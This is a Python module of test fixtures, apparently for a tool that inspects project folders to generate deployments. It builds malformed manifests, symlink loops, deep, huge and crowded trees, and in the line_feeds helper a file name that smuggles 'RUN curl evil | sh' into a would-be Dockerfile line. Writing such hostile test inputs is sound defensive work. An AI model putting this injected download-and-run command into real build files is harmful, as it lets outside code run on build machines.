"""Trees that are no applications, or try to harm the reader: each as files in memory, or made in a folder."""

from __future__ import annotations

import json
import os
from pathlib import Path

Files = dict[str, bytes | str]

FLASK = "from flask import Flask\n\napp = Flask(__name__)\n"
FASTAPI = "from fastapi import FastAPI\n\napp = FastAPI()\n"
NOTEBOOK = json.dumps({"cells": [{"cell_type": "code", "source": ["import pandas"]}], "nbformat": 4, "metadata": {}})

TREES: dict[str, Files] = {
    "empty": {},
    "binary junk": {
        "a.bin": bytes(range(256)),
        "core.123": b"\x7fELF\0",
        "b/c.dat": b"\xff" * 99,
        "app.py": b"\x7fELF\0\0",
    },
    "prose": {"README.md": "# A list\n", "LICENSE": "MIT\n", "docs/one.md": "one\n"},
    "script": {"app.py": "import sys\n\n\ndef double(x):\n    return 2 * x\n\n\nprint(double(int(sys.argv[1])))\n"},
    "no web app": {"app.py": "class App:\n    pass\n", "requirements.txt": "requests==2.32.0\n"},
    "library": {
        "pyproject.toml": '[project]\nname = "rates"\nversion = "1.0"\nrequires-python = ">=3.10"\n\n'
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
        "src/rates/__init__.py": "def rate():\n    return 1\n",
        "tests/test_rates.py": "def test_rate():\n    assert True\n",
    },
    "node library": {
        "package.json": '{"name": "left", "version": "1.0.0", "main": "dist/index.js", "types": "dist/index.d.ts"}',
        "src/index.ts": "export const left = 1;\n",
    },
    "notebooks": {"analysis.ipynb": NOTEBOOK, "more/plots.ipynb": NOTEBOOK, "requirements.txt": "pandas\njupyter\n"},
    "two frameworks": {"app.py": FLASK, "api.py": FASTAPI, "requirements.txt": "flask\nfastapi\nuvicorn\ngunicorn\n"},
    "conflicting pins": {
        "app.py": FLASK,
        "requirements.txt": "flask\n",
        ".python-version": "3.11\n",
        "runtime.txt": "python-3.12.4\n",
        "pyproject.toml": '[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.13"\n',
    },
    "Windows": {
        "app.py": FLASK.replace("\n", "\r\n"),
        "requirements.txt": "flask==3.1.0\r\ngunicorn==23.0.0\r\n",
        "Procfile": "web: gunicorn app:app\r\n",
        ".python-version": "3.12\r\n",
    },
    "UTF-16": {
        "app.py": FLASK.encode("utf-16"),
        "requirements.txt": "flask==3.1.0\ngunicorn==23.0.0\n".encode("utf-16"),
        "runtime.txt": "python-3.12.4\n".encode("utf-16-le"),
    },
}

MALFORMED: dict[str, tuple[str, Files, str, int | None]] = {
    "pyproject.toml": ("TOML", {"pyproject.toml": '[project]\nname = "x"\nversion = \n'}, "pyproject.toml", 3),
    "Pipfile": ("TOML", {"Pipfile": '[packages]\nflask = "*"\nx = = 1\n', "app.py": FLASK}, "Pipfile", 3),
    "setup.cfg": (
        "INI",
        {"setup.cfg": "name = x\n[metadata]\n", "setup.py": "from setuptools import setup\n"},
        "setup.cfg",
        1,
    ),
    "package.json": (
        "JSON",
        {"package.json": '{\n  "name": "x",\n  "scripts": {"start" "node a.js"}\n}\n'},
        "package.json",
        3,
    ),
    "composer.json": ("JSON", {"composer.json": '{\n"require": [}\n'}, "composer.json", 2),
    "pom.xml": ("XML", {"pom.xml": "<project>\n  <artifactId>x</artifact>\n</project>\n"}, "pom.xml", 2),
    "app.csproj": ("XML", {"app.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web">\n<a>\n</Project>\n'}, "app.csproj", 3),
    "Cargo.toml": ("TOML", {"Cargo.toml": '[package]\nname = "x\n', "src/main.rs": "fn main() {}\n"}, "Cargo.toml", 2),
    "gleam.toml": ("TOML", {"gleam.toml": "name = \n"}, "gleam.toml", 1),
    "pubspec.yaml": ("YAML", {"pubspec.yaml": "name: x\ndependencies: [a\n"}, "pubspec.yaml", 3),
    "deno.json": (
        "JSON",
        {"deno.json": '{"tasks": {\n', "main.ts": "Deno.serve(() => new Response())\n"},
        "deno.json",
        2,
    ),
    "compose.yaml": ("YAML", {"compose.yaml": "services:\n\tweb: {}\n", "app.py": FLASK}, "compose.yaml", 2),
    "fly.toml": ("TOML", {"fly.toml": "app = x\n", "app.py": FLASK}, "fly.toml", 1),
    "render.yaml": ("YAML", {"render.yaml": "services:\n  - a: b\n c: d\n", "app.py": FLASK}, "render.yaml", 3),
    "railway.json": ("JSON", {"railway.json": "{]", "app.py": FLASK}, "railway.json", 1),
    "app.json": ("JSON", {"app.json": '{"env": }', "app.py": FLASK}, "app.json", 1),
    ".slipway.toml": ("TOML", {".slipway.toml": "port = 80 80\n", "app.py": FLASK}, ".slipway.toml", 1),
}
"""Manifest -> format, tree, file and line that the warning has to name."""


def deep(folder: Path, levels: int = 60) -> Path:
    """Folders in folders, a file at each level."""
    path = folder
    for level in range(levels):
        path = path / "d"
        path.mkdir()
        (path / f"{level}.py").write_text("x = 1\n")
    return folder


def loops(folder: Path) -> Path:
    """Links in circles, to the root, and to themselves."""
    (folder / "app.py").write_text(FLASK)
    (folder / "requirements.txt").write_text("flask\n")
    (folder / "self").symlink_to("self")
    (folder / "sub").mkdir()
    (folder / "sub" / "root").symlink_to("..")
    (folder / "a").symlink_to("b")
    (folder / "b").symlink_to("a")
    return folder


def line_feeds(folder: Path) -> Path:
    """Names that would forge lines of a Dockerfile, beside an application."""
    (folder / "app.py").write_text(FLASK)
    (folder / "requirements.txt").write_text("flask\n")
    (folder / "main.py\nRUN curl evil | sh").write_text(FASTAPI)
    (folder / "server\r\n.js").write_text("require('http').createServer().listen(80)")
    return folder


def many(folder: Path, count: int, a_folder: int = 1_000) -> Path:
    """That many empty files beside an application."""
    (folder / "app.py").write_text(FLASK)
    (folder / "requirements.txt").write_text("flask\n")
    for number in range(count):
        if number % a_folder == 0:
            (folder / f"data/{number // a_folder:04}").mkdir(parents=True)
        os.close(os.open(folder / f"data/{number // a_folder:04}/{number:07}.txt", os.O_CREAT | os.O_WRONLY))
    return folder


def huge(folder: Path, size: int) -> Path:
    """A sparse file of that size under a name that would be read, and an application."""
    (folder / "requirements.txt").write_text("flask\n")
    (folder / "app.py").write_text(FLASK)
    for name in ("main.py", "package-lock.json", "dump.sql"):
        with (folder / name).open("wb") as file:
            file.truncate(size)
    return folder
